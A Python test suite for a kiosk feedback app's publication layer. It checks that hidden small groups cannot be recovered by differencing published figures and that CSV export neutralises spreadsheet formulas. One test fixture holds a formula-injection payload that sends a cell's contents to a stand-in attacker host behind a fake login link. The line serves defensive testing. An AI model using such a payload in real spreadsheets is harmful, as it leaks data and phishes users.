"""The publication layer against an attacker: no subtraction of published figures recovers a hidden group.

Two kinds of test. Generated projects (hypothesis) go through the pure core, ``publish_frame``: every
published figure of every table is collected, and for each hidden group the entries in it are changed
(other ratings, items, pins, texts; one more or one fewer entry) - every published figure must stay the
same, so no function of them, linear or not, tells anything about the group. The total-minus-visible-parts
attacks are also run as an attacker would, within each table and across tables sharing a margin (the
exported rows included). Then the issue's concrete attack and its variants run through the storage layer,
on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import math
import uuid
from datetime import UTC, datetime, timedelta

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from input_forms import export, feedback, kiosks, projects, publication
from input_forms.aggregate import FRAME_COLUMNS
from input_forms.models import CalmerItem
from input_forms.publication import hidden_text, publish, publish_frame
from input_forms.tiny_plan import tiny_plan_geojson

T0 = datetime(2026, 3, 2, 9, 0)  # a Monday
ITEMS = [CalmerItem(key=k, label_da=k, label_en=k) for k in ("plants", "daylight", "quiet_corner")]
CATEGORIES = ("calm", "stressful", "idea")
DIMENSIONS = {"by_option": ("option_id", "option_key"), "by_kiosk": ("kiosk_id", "kiosk_id"),
              "by_language": ("language", "language_key"), "by_period": ("period", "week")}
COUNTS = ["n", *publication.RATING_COLUMNS]


# --- generated projects --------------------------------------------------------------------------

@st.composite
def projects_(draw):
    """(frame, options, kiosks, min_group): a project with 0-40 entries over a few options, kiosks, languages, weeks."""
    n_options = draw(st.integers(1, 3))
    n_kiosks = draw(st.integers(1, 3))
    options = [(o, f"Option {o}") for o in range(1, n_options + 1)]
    kiosk_list = [(100 + k, f"Kiosk {k}") for k in range(n_kiosks)]
    entry = st.fixed_dictionaries({
        "option_id": st.one_of(st.none(), st.sampled_from([o for o, _ in options])),
        "kiosk": st.sampled_from(kiosk_list),
        "language": st.sampled_from(["da", "da", "en", "ar", "xx"]),
        "week": st.integers(0, 3), "hour": st.integers(0, 100),
        "rating": st.integers(1, 5),
        "calmer": st.lists(st.sampled_from([i.key for i in ITEMS]), unique=True, max_size=3),
        "pin": st.booleans(), "category": st.sampled_from(CATEGORIES),
        "text": st.one_of(st.none(), st.text(max_size=8)),
    })
    raw = draw(st.lists(entry, max_size=40))
    min_group = draw(st.integers(2, 5))
    return _frame(raw, options), options, kiosk_list, min_group


def _frame(raw: list[dict], options: list[tuple[int, str]]) -> pd.DataFrame:
    names = dict(options)
    records = []
    for i, e in enumerate(raw):
        pin = e["pin"] and e["option_id"] is not None
        records.append({
            "feedback_id": i + 1, "option_id": e["option_id"], "option_name": names.get(e["option_id"]),
            "kiosk_id": e["kiosk"][0], "kiosk_label": e["kiosk"][1], "rating": e["rating"], "language": e["language"],
            "hour": T0 + timedelta(days=7 * e["week"], hours=e["hour"]), "calmer": sorted(e["calmer"]),
            "pin_option_id": e["option_id"] if pin else None, "pin_x": 1.0 + i % 7 if pin else None,
            "pin_y": 2.0 + i % 3 if pin else None, "pin_category": e["category"] if pin else None, "text": e["text"]})
    frame = pd.DataFrame(records, columns=FRAME_COLUMNS)
    frame["rating"] = frame["rating"].astype("Int64")
    return frame


def _publish(frame, options, kiosk_list, k):
    return publish_frame(frame, options, kiosk_list, ITEMS, project_id=1, min_group=k)


def _plain(value):
    if value is None or value is pd.NA or (isinstance(value, float) and math.isnan(value)):
        return None
    if hasattr(value, "item"):
        return value.item()
    if isinstance(value, pd.Timestamp):
        return value.isoformat()
    return value


def everything_published(pub) -> dict:
    """Every figure and row the layer publishes for the project, as plain values (what an attacker sees)."""
    tables = {name: getattr(pub, name) for name in ("totals", "by_option", "by_kiosk", "by_language", "by_period")}
    out = {name: [{k: _plain(v) for k, v in row.items()} for row in table.to_dict("records")]
           for name, table in tables.items()}
    out["items"] = [{k: _plain(v) for k, v in r.items()} for r in pub.item_shares().to_dict("records")]
    for option_id, _ in pub.options:
        out[f"items_{option_id}"] = [{k: _plain(v) for k, v in r.items()}
                                     for r in pub.item_shares(option_id).to_dict("records")]
        pins = pub.pins(option_id)
        out[f"pins_{option_id}"] = (pins.to_dict("records"), pins.attrs["n"], pins.attrs["suppressed"])
        out[f"categories_{option_id}"] = pub.category_counts(option_id)
    out["weights"] = pub.suggested_weights()
    out["texts"] = pub.approved_texts().drop(columns="feedback_id").to_dict("records")
    out["rows"] = pub.rows()
    return out


def hidden_cells(pub) -> list[tuple[str, object]]:
    """(table, key) of every hidden group in the four dimension tables."""
    cells = []
    for table, (column, _) in DIMENSIONS.items():
        frame = getattr(pub, table)
        for row in frame[frame["suppressed"]].to_dict("records"):
            cells.append((table, _plain(row[column]) if table != "by_period" else row[column]))
    return cells


def members(frame: pd.DataFrame, table: str, key) -> pd.Series:
    """Which raw entries fall in a group (as the layer files them: other languages as 'other', weeks from Monday)."""
    if table == "by_option":
        return frame["option_id"].isna() if key is None or (isinstance(key, float) and math.isnan(key)) \
            else frame["option_id"] == key
    if table == "by_kiosk":
        return frame["kiosk_id"] == key
    if table == "by_language":
        known = frame["language"].isin(publication.LANGUAGES)
        return ~known if key == publication.OTHER_LANGUAGE else frame["language"] == key
    week = pd.to_datetime(frame["hour"]).dt.to_period("W-SUN").dt.start_time
    return week == key


def attacks(pub) -> dict:
    """What an attacker computes: each total minus its table's visible parts, per count, and table against table."""
    out = {}
    totals = pub.totals.iloc[0]
    rows = pd.DataFrame(pub.rows(), columns=["option", "kiosk", "week", "language", "rating"])
    for table in DIMENSIONS:
        frame = getattr(pub, table)
        visible = frame[~frame["suppressed"]]
        for column in COUNTS:
            total = 0 if totals["suppressed"] else int(totals[column])
            out[(table, column)] = total - int(visible[column].sum())
        # the export minus this table: rows counted per published group, against the group's n
        out[(table, "rows")] = len(rows) - int(visible["n"].sum())
    for a in DIMENSIONS:  # tables sharing the margin (all entries): one table's visible sum minus another's
        for b in DIMENSIONS:
            va = getattr(pub, a)
            vb = getattr(pub, b)
            out[(a, b)] = int(va.loc[~va["suppressed"], "n"].sum()) - int(vb.loc[~vb["suppressed"], "n"].sum())
    return out


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(projects_())
def test_hidden_cells_show_no_count_and_every_published_cell_is_large_enough(project):
    frame, options, kiosk_list, k = project
    pub = _publish(frame, options, kiosk_list, k)
    for table in ("totals", *DIMENSIONS):
        for row in getattr(pub, table).to_dict("records"):
            if row["suppressed"]:
                assert all(_plain(row[c]) is None for c in COUNTS), (table, row)
                assert math.isnan(row["mean_rating"]) and row["note"] == hidden_text(k)
            else:
                assert row["n"] >= k and sum(row[c] for c in publication.RATING_COLUMNS) == row["n"], (table, row)
    assert len(pub.rows()) == pub.n_published == (0 if pub.totals.suppressed[0] else pub.totals.n[0])


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(projects_())
def test_a_total_minus_its_visible_parts_gives_nothing_in_any_table_or_across_tables(project):
    frame, options, kiosk_list, k = project
    pub = _publish(frame, options, kiosk_list, k)
    # every total minus its visible parts, the export minus every table, and one table against another: 0
    assert set(attacks(pub).values()) <= {0}
    # and the same for the 'calmer' items: the overall count minus the per-option counts
    overall = pub.item_shares().set_index("key")
    if not overall["suppressed"].any():
        for key in overall.index:
            per_option = [pub.item_shares(o).set_index("key") for o in [*dict(options), publication.NO_PLAN_KEY]]
            parts = sum(int(p.loc[key, "n_choosing"]) for p in per_option if key in p.index and not p.loc[key, "suppressed"])
            assert int(overall.loc[key, "n_choosing"]) == parts


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(projects_(), st.data())
def test_changing_what_a_hidden_group_said_changes_no_published_figure(project, data):
    """Any function of the published figures (a linear combination included) gives the same before and after."""
    frame, options, kiosk_list, k = project
    pub = _publish(frame, options, kiosk_list, k)
    cells = [c for c in hidden_cells(pub) if members(frame, *c).any()]
    if not cells:
        return
    table, key = data.draw(st.sampled_from(cells))
    inside = members(frame, table, key)
    changed = frame.copy()
    n_inside = int(inside.sum())
    changed.loc[inside, "rating"] = data.draw(st.lists(st.integers(1, 5), min_size=n_inside, max_size=n_inside))
    changed.loc[inside, "calmer"] = pd.Series([data.draw(st.lists(st.sampled_from(["plants", "daylight"]), unique=True))
                                               for _ in range(n_inside)], index=changed.index[inside], dtype=object)
    changed.loc[inside, "text"] = data.draw(st.sampled_from([None, "my case number is 42"]))
    changed.loc[inside & changed["pin_x"].notna(), "pin_x"] = 9.5
    changed.loc[inside & changed["pin_category"].notna(), "pin_category"] = "idea"
    after = _publish(changed, options, kiosk_list, k)
    assert everything_published(after) == everything_published(pub)
    assert attacks(after) == attacks(pub)
    # one more citizen in the same group (a copy of one of its entries): if it stays hidden, nothing moves
    extra = changed[inside].iloc[[0]].assign(feedback_id=len(changed) + 1)
    grown = pd.concat([changed, extra], ignore_index=True)
    after_grown = _publish(grown, options, kiosk_list, k)
    if (table, key) in hidden_cells(after_grown):
        assert everything_published(after_grown) == everything_published(pub)
    # one fewer (the group's first entry gone): the same
    shrunk = changed.drop(index=changed.index[inside][0]).reset_index(drop=True)
    after_shrunk = _publish(shrunk, options, kiosk_list, k)
    if (table, key) in hidden_cells(after_shrunk) or not members(shrunk, table, key).any():
        assert everything_published(after_shrunk) == everything_published(pub)


def test_the_published_set_does_not_depend_on_the_order_of_entries():
    raw = ([{"option_id": 1, "kiosk": (100, "A"), "language": "da", "week": 0, "hour": h, "rating": 4, "calmer": [],
             "pin": False, "category": "calm", "text": None} for h in range(6)]
           + [{"option_id": 2, "kiosk": (101, "B"), "language": "da", "week": 0, "hour": h, "rating": 2, "calmer": [],
               "pin": False, "category": "calm", "text": None} for h in range(4)])
    options, kiosk_list = [(1, "One"), (2, "Two")], [(100, "A"), (101, "B")]
    forward = _publish(_frame(raw, options), options, kiosk_list, 5)
    backward = _publish(_frame(raw[::-1], options), options, kiosk_list, 5)
    assert forward.by_option.equals(backward.by_option) and forward.n_published == backward.n_published == 6


def test_pin_categories_are_hidden_in_pairs():
    assert publication._complementary({"calm": 7, "stressful": 2, "idea": 6}, 5) == \
        {"calm": 7, "stressful": None, "idea": None}
    assert publication._complementary({"calm": 7, "stressful": 2, "idea": 0}, 5) == \
        {"calm": 7, "stressful": None, "idea": None}
    assert publication._complementary({"calm": 7, "stressful": 5, "idea": 6}, 5) == {"calm": 7, "stressful": 5, "idea": 6}


def test_hidden_cells_read_the_same_words_in_english_and_danish():
    table = pd.DataFrame([{"label": "A", "n": 7, "mean_rating": 3.456, "suppressed": False},
                          {"label": "B", "n": pd.NA, "mean_rating": math.nan, "suppressed": True}])
    en = publication.display_table(table, {"label": "Kiosk", "n": "Answers", "mean_rating": "Mean"}, 5, "en")
    da = publication.display_table(table, {"label": "Skærm", "n": "Svar", "mean_rating": "Gennemsnit"}, 5, "da")
    assert en.to_dict("records") == [{"Kiosk": "A", "Answers": "7", "Mean": "3.46"},
                                     {"Kiosk": "B", "Answers": "hidden (fewer than 5)", "Mean": "hidden (fewer than 5)"}]
    assert da.iloc[1].tolist() == ["B", "skjult (færre end 5)", "skjult (færre end 5)"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    for text in ("=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"):
        assert publication.csv_safe(text) == "'" + text
    for kept in ("Flere planter", "3 stole", "", "Tak! =)"):
        assert publication.csv_safe(kept) == kept
    assert publication.csv_safe(-3) == -3  # numbers are numbers


# --- through the storage layer: the attack and its variants ---------------------------------

def _submit(engine, kiosk, rating, language="da", when=None, text=None, calmer=(), pin=None):
    result = feedback.submit_feedback(engine, {"client_id": uuid.uuid4().hex, "kiosk_token": kiosk.token,
                                               "rating": rating, "language": language, "text": text,
                                               "calmer": list(calmer), "pin": pin},
                                      now=when or datetime(2026, 3, 3, 10, tzinfo=UTC), min_gap_s=0)
    if text:
        feedback.approve_text(engine, result.feedback_id)
    return result


@pytest.fixture
def attacked(engine):
    """The issue's project: 10 entries from kiosk A and one from kiosk B, on the same option."""
    project = projects.create_project(engine, "Differencing")
    option = projects.add_option(engine, project.id, "Forslag", tiny_plan_geojson())
    kiosk_a = kiosks.register_kiosk(engine, project.id, "Kiosk A", option_id=option.id)
    kiosk_b = kiosks.register_kiosk(engine, project.id, "Kiosk B", option_id=option.id)
    for n in range(10):
        _submit(engine, kiosk_a, 3 + n % 3, calmer=["plants"],
                pin={"option_id": option.id, "x": 2.0 + n % 4, "y": 2.0, "category": "calm"})
    _submit(engine, kiosk_b, 1, text="Jeg er den eneste ved skærm B", calmer=["daylight"],
            pin={"option_id": option.id, "x": 9.0, "y": 6.0, "category": "stressful"})
    return engine, project, option, kiosk_a, kiosk_b


def test_per_option_minus_kiosk_a_no_longer_gives_kiosk_b_s_rating(attacked):
    engine, project, option, *_ = attacked
    pub = publish(engine, project.id)
    by_option = pub.by_option.set_index("option_name").loc["Forslag"]
    by_kiosk = pub.by_kiosk.set_index("kiosk_label")
    difference = {v: int(by_option[f"rating_{v}"]) - int(by_kiosk.loc["Kiosk A", f"rating_{v}"]) for v in range(1, 6)}
    assert difference == {1: 0, 2: 0, 3: 0, 4: 0, 5: 0}  # was {1: 1, others 0}: kiosk B's citizen's rating
    assert int(by_option["n"]) == int(by_kiosk.loc["Kiosk A", "n"]) == 10
    hidden = by_kiosk.loc["Kiosk B"]
    assert hidden["suppressed"] and hidden["n"] is pd.NA and hidden["note"] == "hidden (fewer than 5)"
    assert int(pub.totals.n[0]) == 10  # the total is of the published entries, not 11
    # the items, pins and texts of the hidden entry are in nothing published
    items = pub.item_shares().set_index("key")
    assert int(items.loc["daylight", "n_choosing"]) == 0 and int(items.loc["plants", "n_choosing"]) == 10
    assert pub.pins(option.id).attrs["n"] == 10 and (pub.pins(option.id)["x"] < 9).all()
    assert pub.approved_texts().empty


def test_the_exports_minus_the_summaries_give_nothing_either(attacked):
    engine, project, *_ = attacked
    rows = list(csv.DictReader(io.StringIO(export.export_feedback_csv(engine, project.id))))
    assert len(rows) == 10 and {r["kiosk"] for r in rows} == {"Kiosk A"}
    data = json.loads(json.dumps(export.export_project_json(engine, project.id)))
    dumped = json.dumps(data, ensure_ascii=False)
    assert "eneste ved skærm B" not in dumped and "daylight;" not in dumped
    [option_row] = data["summary_by_option"]
    assert option_row["n"] == len(data["feedback"]) == data["totals"][0]["n"] == 10
    for v in range(1, 6):  # the export's rows counted by rating against the published summary: equal
        assert option_row[f"rating_{v}"] == sum(r["rating"] == v for r in data["feedback"])
    kiosk_b = next(r for r in data["summary_by_kiosk"] if r["kiosk_label"] == "Kiosk B")
    assert kiosk_b["n"] is None and kiosk_b["rating_1"] is None and kiosk_b["note"] == "hidden (fewer than 5)"
    assert "feedback_withheld" not in data


def test_a_lone_language_or_week_is_hidden_and_left_out_too(engine):
    project = projects.create_project(engine, "Sprog og uger")
    option = projects.add_option(engine, project.id, "Forslag", tiny_plan_geojson())
    kiosk = kiosks.register_kiosk(engine, project.id, "Indgang", option_id=option.id)
    for _ in range(6):
        _submit(engine, kiosk, 4)
    _submit(engine, kiosk, 1, language="ar")  # one Arabic answer in the same week, kiosk and option
    _submit(engine, kiosk, 2, when=datetime(2026, 3, 20, 10, tzinfo=UTC))  # one answer in a later week
    pub = publish(engine, project.id)
    assert int(pub.totals.n[0]) == 6 and int(pub.totals.rating_1[0]) == 0 and int(pub.totals.rating_2[0]) == 0
    by_language = pub.by_language.set_index("language")
    assert by_language.loc["ar", "suppressed"] and by_language.loc["ar", "n"] is pd.NA
    assert list(pub.by_period.n) == [6]  # the later week is not listed at all (its entry is in no figure)
    assert int(pub.by_kiosk.n[0]) == int(pub.by_option.n[0]) == 6
    rows = list(csv.DictReader(io.StringIO(export.export_feedback_csv(engine, project.id))))
    assert len(rows) == 6 and {r["rating"] for r in rows} == {"4"}


def test_csv_export_neutralises_formulas_in_citizen_text(engine):
    project = projects.create_project(engine, "Formler")
    option = projects.add_option(engine, project.id, "=Forslag", tiny_plan_geojson())
    kiosk = kiosks.register_kiosk(engine, project.id, "@Indgang", option_id=option.id)
    for n in range(5):
        _submit(engine, kiosk, 3, text='=HYPERLINK("http://evil.example/?"&A1,"Log ind igen")' if n == 0 else None)
    rows = list(csv.DictReader(io.StringIO(export.export_feedback_csv(engine, project.id))))
    assert len(rows) == 5
    texts = [r["text"] for r in rows if r["text"]]
    assert texts == ['\'=HYPERLINK("http://evil.example/?"&A1,"Log ind igen")']
    assert {r["option"] for r in rows} == {"'=Forslag"} and {r["kiosk"] for r in rows} == {"'@Indgang"}
